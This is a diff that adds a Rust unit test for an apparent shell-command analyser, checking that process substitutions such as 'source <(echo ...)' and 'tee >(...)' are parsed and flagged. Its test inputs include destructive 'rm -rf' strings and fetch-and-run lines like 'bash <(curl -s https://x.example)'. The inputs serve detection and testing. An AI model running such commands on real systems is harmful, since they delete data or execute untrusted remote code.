@@ -518,3 +518,24 @@ fn commands_other_programs_run_through_a_shell() {
     );
     assert!(p("git -c core.sshCommand=\"$X\" fetch").opaque);
 }
+
+#[test]
+fn process_substitutions() {
+    for src in [
+        "source <(echo 'rm -rf x')",
+        ". <(printf 'rm -rf x')",
+        "bash <(echo 'rm -rf x')",
+        "bash < <(echo 'rm -rf x')",
+        "diff <(rm -rf x) b",
+        "tee >(rm -rf x) < f",
+    ] {
+        assert!(invokes(src, "rm -r -f"), "{src:?}: {:?}", p(src).commands);
+    }
+    assert!(!p("source <(echo 'ls')").opaque);
+    assert!(p("source <(curl -s https://x.example)").opaque);
+    assert!(p("bash <(curl -s https://x.example)").opaque);
+    assert!(p("bash < <(curl -s https://x.example)").opaque);
+    // The words after a process substitution stay with their command.
+    let d = p("diff <(sort a) <(sort b) -u");
+    assert_eq!(find(&d, "diff").args, ["/dev/fd/63", "/dev/fd/63", "-u"]);
+}
